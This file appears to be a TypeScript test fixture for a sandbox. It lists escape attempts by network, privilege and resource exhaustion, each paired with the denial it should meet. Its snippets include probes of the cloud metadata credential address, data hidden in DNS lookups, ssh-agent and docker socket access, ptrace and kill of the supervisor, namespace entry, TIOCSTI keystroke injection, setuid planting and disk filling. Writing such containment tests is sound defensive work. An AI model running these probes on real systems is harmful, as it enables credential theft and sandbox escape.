/**
 * Ways out of a sandbox as a hostile program tries them: by the network, by rights, by using things up.
 */
import { existsSync, statSync } from "node:fs";
import { hostname } from "node:os";
import { join } from "node:path";
import { expect } from "vitest";
import type { Way } from "./hostile-files.fixture.ts";

/** System calls by their numbers, for perl. */
const CALLS: Record<string, number> =
  process.arch === "arm64"
    ? {
        ptrace: 117,
        keyctl: 219,
        bpf: 280,
        io_uring_setup: 425,
        process_vm_readv: 270,
        perf_event_open: 241,
        setns: 268,
        openat2: 437,
      }
    : {
        ptrace: 101,
        keyctl: 250,
        bpf: 321,
        io_uring_setup: 425,
        process_vm_readv: 310,
        perf_event_open: 298,
        setns: 308,
        openat2: 437,
      };

const connectTo = (target: string) =>
  `require("node:net").connect(${target}).on("data", (d) => console.log(String(d))).on("error", (e) => console.log(e.code ?? e))`;

export const WAYS_TO_THE_MACHINE: Way[] = [
  // network
  {
    way: "connects to a service of the machine",
    js: connectTo(`{ host: "127.0.0.1", port: %PORT% }`),
    meets: /ECONNREFUSED/,
  },
  {
    way: "connects to the machine's own address",
    js: connectTo(`{ host: "%ADDRESS%", port: %PORT% }`),
    meets: /ENETUNREACH|ECONNREFUSED/,
  },
  {
    way: "connects to the internet by an address",
    js: connectTo(`{ host: "1.1.1.1", port: 443 }`),
    meets: /ENETUNREACH/,
  },
  {
    way: "connects by IPv6",
    js: connectTo(`{ host: "2606:4700:4700::1111", port: 443 }`),
    meets: /ENETUNREACH|EADDRNOTAVAIL/,
  },
  {
    way: "asks for the machine's credentials at the metadata address",
    js: connectTo(`{ host: "169.254.169.254", port: 80 }`),
    meets: /ENETUNREACH/,
  },
  {
    way: "hides data in a name that is looked up",
    js: 'require("node:dns").lookup("data.example.org", (e) => console.log(e.code))',
    meets: /EAI_AGAIN|ENOTFOUND/,
  },
  {
    way: "sends datagrams to a resolver",
    js: `require("node:dgram").createSocket("udp4").send("x", 53, "8.8.8.8", (e) => { console.log(e.code); process.exit(); })`,
    meets: /ENETUNREACH/,
  },
  { way: "uses the ssh agent", js: connectTo(`{ path: "%AGENT%" }`), meets: /ENOENT/ },
  { way: "uses the container engine", js: connectTo(`{ path: "/var/run/docker.sock" }`), meets: /ENOENT/ },
  {
    way: "reaches an abstract socket of the machine",
    js: connectTo(`{ path: "\\0%ABSTRACT%" }`),
    meets: /ECONNREFUSED/,
  },
  {
    way: "makes packets of its own",
    perl: `socket(S, 17, 3, 0x300) or print "$!\\n"; socket(T, 2, 3, 1) or print "$!\\n"`,
    meets: /(Operation not permitted\n){2}/,
  },

  // rights
  { way: "ends Robson", sh: "kill -9 %PID%; kill -9 1; echo alive", meets: /No such process[\s\S]*alive/ },
  {
    way: "traces Robson",
    perl: `syscall(${CALLS.ptrace}, 16, %PID%, 0, 0) == -1 and print "$!\\n"; my $b = "x" x 8; my ($l, $r) = (pack("PQ", $b, 8), pack("QQ", 4096, 8)); syscall(${CALLS.process_vm_readv}, %PID%, $l, 1, $r, 1, 0) == -1 and print "$!\\n"`,
    meets: /(No such process\n){2}/,
  },
  {
    way: "mounts",
    sh: "mount -t tmpfs x /tmp; mount --bind / /tmp; umount /proc",
    meets: /must be superuser|permission denied/i,
  },
  {
    way: "becomes root in a namespace of its own",
    sh: "unshare -Ur id; unshare -n true; bwrap --ro-bind / / id",
    meets: /not permitted[\s\S]*not permitted/i,
  },
  {
    way: "enters the namespaces of others",
    perl: `open(F, "<", "/proc/1/ns/user"); syscall(${CALLS.setns}, fileno(F), 0) == -1 and print "$!\\n"`,
    meets: /not permitted/,
  },
  {
    way: "reads the kernel's keys",
    perl: `syscall(${CALLS.keyctl}, 0, -4, 0) == -1 and print "$!\\n"`,
    meets: /not permitted/,
  },
  {
    way: "goes round by io_uring, bpf or perf",
    perl: `for (${CALLS.io_uring_setup}, ${CALLS.bpf}, ${CALLS.perf_event_open}) { my $x = "\\0" x 128; syscall($_, 8, $x, 0, 0, 0) == -1 and print "$!\\n" }`,
    meets: /(Operation not permitted\n){3}/,
  },
  {
    way: "makes a device",
    sh: "mknod disk b 254 0; ls /dev/vda /dev/sda /dev/mem /dev/kmsg",
    meets: /not permitted[\s\S]*No such file/,
  },
  {
    way: "types into the terminal of its starter",
    sh: "echo x > /dev/tty",
    meets: /No such device|cannot create|ENXIO/,
  },
  {
    way: "types into a terminal as if it were a person",
    perl: `use POSIX; setpgid(0, 0); if (my $p = fork) { waitpid $p, 0; exit } POSIX::setsid(); open(M, "+<", "/dev/ptmx") or die $!; my $n = pack("i", 0); ioctl(M, 0x40045431, $n); ioctl(M, 0x80045430, $n); open(S, "+<", "/dev/pts/" . unpack("i", $n)) or die $!; ioctl(S, 0x540E, 0); my $c = "x"; ioctl(S, 0x5412, $c) or print "TIOCSTI: $!\\n"`,
    meets: /TIOCSTI: Operation not permitted/,
  },
  {
    way: "uses a setuid program",
    sh: "su -c id; grep NoNewPrivs /proc/self/status",
    meets: /NoNewPrivs:\s+1/,
  },
  {
    way: "leaves a setuid program for others",
    sh: `cp /usr/bin/id tool; chmod 755 tool; chmod u+s tool; perl -e 'use Fcntl; sysopen(F, "made", O_CREAT | O_WRONLY, 04755) or print "open: $!\\n"'`,
    meets: /not permitted[\s\S]*open: Operation not permitted/,
    after: ({ checkout }) => expect(statSync(join(checkout, "tool")).mode & 0o4000).toBe(0),
  },
  {
    way: "opens files past the filter of modes",
    perl: `my ($p, $h) = ("made", pack("QQQ", 0101, 04755, 0)); syscall(${CALLS.openat2}, -100, $p, $h, 24) == -1 and print "$!\\n"`,
    meets: /not implemented/,
    after: ({ checkout }) => expect(existsSync(join(checkout, "made"))).toBe(false),
  },
  {
    way: "changes the machine's name and time",
    sh: "hostname evil; date -s 2001-01-01",
    meets: /(must be root|not permitted|cannot set)/i,
    after: () => expect(hostname()).not.toBe("evil"),
  },

  // using things up
  {
    way: "writes a file without an end",
    sh: "dd if=/dev/zero of=big bs=1M count=64",
    meets: /File (size limit exceeded|too large)|^$/,
    after: ({ checkout }) => expect(statSync(join(checkout, "big")).size).toBe(16 * 1024 * 1024),
  },
  {
    way: "fills /tmp",
    sh: "dd if=/dev/zero of=/tmp/a bs=1M count=12; dd if=/dev/zero of=/tmp/b bs=1M count=12",
    meets: /No space left/,
  },
  {
    way: "fills the memory that files share",
    sh: "dd if=/dev/zero of=/dev/shm/a bs=1M count=12; dd if=/dev/zero of=/dev/shm/b bs=1M count=12; touch /dev/x",
    meets: /No space left[\s\S]*Read-only/,
  },
];
